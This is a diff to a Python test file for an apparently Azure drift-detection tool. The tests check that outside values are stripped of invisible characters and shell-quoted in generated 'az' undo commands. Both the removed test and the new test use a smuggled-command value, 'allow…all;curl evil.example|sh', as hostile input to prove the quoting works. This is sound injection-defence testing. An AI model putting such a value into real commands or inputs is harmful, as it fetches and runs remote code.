@@ -152,7 +152,7 @@ def test_invisible_characters_in_names_and_claims_never_reach_cards_or_mails_and
     teams.clear(), graph.clear()  # the posture card of the new server
     hostile = client(arm, ca, SUBSCRIPTION, {**CARELESS, "name": f"Casey{INVISIBLE}Admin",
                                              "upn": f"casey{INVISIBLE}@contoso.example"})
-    rule = f"allow{INVISIBLE}all;curl evil.example|sh"
+    rule = "allow-all_0"  # ARM refuses anything else in a rule name (the spec's pattern): the claims carry it
     add_rule(hostile, server_name, rule, "0.0.0.0", "255.255.255.255")
     engine.handle_many(arm.drain_events())
 
@@ -162,11 +162,22 @@ def test_invisible_characters_in_names_and_claims_never_reach_cards_or_mails_and
     [mail] = graph.messages()
     assert invisible_in(card) == [] and invisible_in(mail) == []
     assert "CaseyAdmin" in json.dumps(card) and "CaseyAdmin" in json.dumps(mail)
+    assert row.remediation == (f"az mysql flexible-server firewall-rule delete -g {GROUP} -n {server_name} "
+                               f"--rule-name {rule} --yes")
 
-    prefix = f"az mysql flexible-server firewall-rule delete -g {GROUP} -n {server_name} --rule-name "
-    assert row.remediation.startswith(prefix) and row.remediation.endswith(" --yes")
-    quoted = row.remediation[len(prefix):-len(" --yes")]
-    assert quoted == "$'allow\\u061c\\ufeff\\u2060\\u00ad\\u202e\\u200dall;curl evil.example|sh'"
-    if shutil.which("bash"):  # the shell turns it back into exactly the rule's name, as one argument
-        out = subprocess.run(["bash", "-c", f"printf '%s\\n' {quoted}"], capture_output=True, text=True, check=True)
-        assert out.stdout == rule + "\n"
+
+def test_every_value_from_outside_is_one_shell_word_in_an_undo_command() -> None:
+    """Resource groups allow parentheses and letters of any script; names made elsewhere may carry anything."""
+    from drift.armid import mysql_server_ref
+    from drift.engine import remediation
+
+    group, target = "rg-(prod).ü", f"allow{INVISIBLE}all;curl evil.example|sh"
+    ref = mysql_server_ref(f"/subscriptions/{SUBSCRIPTION}/resourceGroups/{group}/providers/"
+                           "Microsoft.DBforMySQL/flexibleServers/db-1")
+    assert ref is not None
+    command = remediation("echo {resource_group} {server} {target}", ref, (target,))
+    assert command.endswith(" $'allow\\u061c\\ufeff\\u2060\\u00ad\\u202e\\u200dall;curl evil.example|sh'")
+    if shutil.which("bash"):  # the shell turns each back into exactly one argument
+        out = subprocess.run(["bash", "-c", command.replace("echo", "printf '%s\\n'", 1)], capture_output=True,
+                             text=True, check=True)
+        assert out.stdout.splitlines() == [group, "db-1", target]
